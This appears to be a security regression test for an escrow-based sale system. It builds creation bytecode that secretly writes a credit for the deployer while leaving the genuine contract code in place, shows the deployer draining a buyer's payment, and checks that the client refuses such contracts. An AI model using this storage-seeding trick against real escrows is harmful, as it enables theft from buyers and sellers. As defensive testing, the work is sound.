import { NO_SPLIT } from "@zkcmp/sale/deal";
import type { Hex } from "@zkcmp/sale/hex";
import { type Address, ETHER } from "@zkcmp/sale/order";
import { expect } from "chai";
import { AbiCoder, keccak256 } from "ethers";
import { checkEscrowCode, EscrowCodeError } from "../../packages/chain/src/escrow-check.ts";
import { ESCROW_CODE, POSEIDON_CODE } from "../../packages/chain/src/escrow-code.ts";
import { EscrowContract, escrowCalls } from "../../packages/chain/src/escrow-contract.ts";
import { withAddress } from "../../packages/chain/src/escrow-deployment.ts";
import { offerSale } from "../../packages/chain/src/seller/offer.ts";
import { walletAddress } from "../../packages/chain/src/account.ts";
import {
  expectRefusal,
  LIVE_CHAIN,
  openWorld,
  order,
  PRICE,
  seal,
  type World,
} from "../../packages/chain/test/fixture.ts";

/**
 * The attack: someone deploys an escrow whose creation code first writes a credit for its maker into the storage and then
 * leaves ModelEscrow's true code behind. Whoever compares the code, or its hash, finds nothing. The first price that is
 * paid in is withdrawn by the maker at once; the seller's payment and the buyer's refund become credits that nobody can
 * take. A buyer can play it on a seller, who is shown the order's contract, and anybody on everybody.
 * Refused because the client also asks how the contract was created: at an address that hashes the true creation code,
 * or by a transaction that consists of it.
 */
describe("finding: an escrow whose storage was written before", function () {
  this.timeout(60_000);
  let world: World;
  let seeded: Address;
  before(async () => {
    world = await openWorld(LIVE_CHAIN);
    const library = await create(POSEIDON_CODE.creation);
    seeded = await create(withCredit(linkedTo(library), walletAddress(world.stranger)));
  });
  after(() => world.close());

  async function create(data: Hex): Promise<Address> {
    const signer = world.stranger.connect(world.connection.provider);
    const receipt = (await (await signer.sendTransaction({ data, gasLimit: 12_000_000 })).wait())!;
    return receipt.contractAddress!.toLowerCase() as Address;
  }

  function linkedTo(library: Address): Hex {
    const { creation, creationAddresses } = ESCROW_CODE;
    return creationAddresses.reduce((code, span) => withAddress(code, span, library.slice(2)), creation);
  }

  /** Creation code that writes a credit of one price, and returns the same runtime code. */
  function withCredit(creation: Hex, account: Address): Hex {
    const abi = AbiCoder.defaultAbiCoder();
    // _credits is the contract's second mapping.
    const inner = keccak256(abi.encode(["address", "uint256"], [account, 1]));
    const slot = keccak256(abi.encode(["address", "bytes32"], [ETHER, inner]));
    const runtime = creation.slice(creation.indexOf("fe6080") + 2);
    const length = (runtime.length / 2).toString(16).padStart(4, "0");
    const word = (hex: string): string => `7f${hex.replace("0x", "").padStart(64, "0")}`;
    const store = `${word(PRICE.toString(16))}${word(slot)}55`;
    // The code that follows is 14 bytes long: CODECOPY(0, offset, length), RETURN(0, length)
    const offset = (store.length / 2 + 14).toString(16).padStart(4, "0");
    return (`0x${store}61${length}61${offset}5f39` + `61${length}5ff3${"00"}${runtime}`) as Hex;
  }

  it("holds the true code, and a credit that nobody paid", async () => {
    const { provider } = world.connection;
    const true_ = await provider.getCode(world.escrow);
    expect((await provider.getCode(seeded)).length).to.equal(true_.length);
    const credit = await new EscrowContract(provider, seeded).credit(walletAddress(world.stranger), ETHER);
    expect(credit).to.equal(PRICE);
  });

  it("would give the first price to its maker", async () => {
    const { provider } = world.connection;
    const buyer = world.buyer.wallet.connect(provider);
    const snapshot = await world.node.local.transport("evm_snapshot", []);
    const fresh = { ...world, escrow: seeded };
    const placed = await order(fresh);
    await seal(fresh, placed);
    const { core } = await world.seller.journal.sale(placed.hash);
    const { token, price, fundableUntil, timeToRedeem } = placed.order;
    const { keyCommitment, orderHash } = core;
    const terms = {
      buyer: placed.order.buyer,
      token,
      price,
      fundableUntil,
      timeToRedeem,
      keyCommitment,
      orderHash,
      split: NO_SPLIT,
    };
    const seller = world.seller.wallet.connect(provider);
    const offered = await seller.sendTransaction({
      to: seeded,
      data: escrowCalls.offer({ ...terms, core: keyCommitment }),
    });
    const dealId = BigInt((await offered.wait())!.logs[0]!.topics[1]!);
    await (await buyer.sendTransaction({ to: seeded, data: escrowCalls.fund(dealId as never), value: PRICE })).wait();
    const thief = world.stranger.connect(provider);
    const to = walletAddress(world.stranger);
    await (await thief.sendTransaction({ to: seeded, data: escrowCalls.withdraw(ETHER, to) })).wait();
    expect(await provider.getBalance(seeded)).to.equal(0n);
    await world.node.local.transport("evm_revert", [snapshot]);
  });

  it("is refused, by its address and in an order", async () => {
    const check = checkEscrowCode(world.connection, seeded, world.buyer.journal);
    await expectRefusal(check, EscrowCodeError, /created by other code than ModelEscrow's/);
    const placed = await order({ ...world, escrow: seeded });
    await seal(world, placed);
    await expectRefusal(offerSale(world.seller, placed.hash), EscrowCodeError, /created by other code/);
  });
});
